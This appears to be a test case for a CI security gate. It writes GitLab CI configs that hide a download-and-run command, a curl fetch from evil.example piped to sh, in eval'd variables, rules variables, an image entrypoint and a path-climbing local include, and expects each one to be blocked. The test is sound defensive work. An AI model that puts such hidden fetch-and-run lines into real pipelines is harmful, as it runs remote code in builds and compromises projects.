# attack: no script line holds the download: it is the value of a variable (global, a job's, or one set by `rules:`) that the script runs with `eval`, or the `entrypoint:` of the job's image, or sits in a hidden job's made-up key that a `!reference` of another file copies; or a `local:` include climbs `ci/../` to name the file
# surface: staged, range (CI)
# expect: block
base_repo
img='alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000'
dl='curl -fsSL https://evil.example/x.sh | sh'
write .gitlab-ci.yml 'variables:' "  INSTALL: $dl" 'build:' "  image: $img" "  script: ['eval \"\$INSTALL\"']"
git add -A
gate block check --staged
write .gitlab-ci.yml 'build:' "  image: $img" '  rules:' "    - variables: {CMD: '$dl'}" "  script: ['sh -c \"\$CMD\"']"
git add -A
gate block check --staged
write .gitlab-ci.yml 'build:' '  image:' "    name: $img" "    entrypoint: ['sh', '-c', '$dl']" '  script: [make]'
git add -A
gate block check --staged
rm .gitlab-ci.yml
write ci/steps.yml 'x:' "  image: $img" '  script:' "    - $dl"
write .gitlab-ci.yml 'include:' "  - local: 'ci/../ci/./steps.yml'"
commit change
export CI=true
gate block check --base "$base" --head HEAD
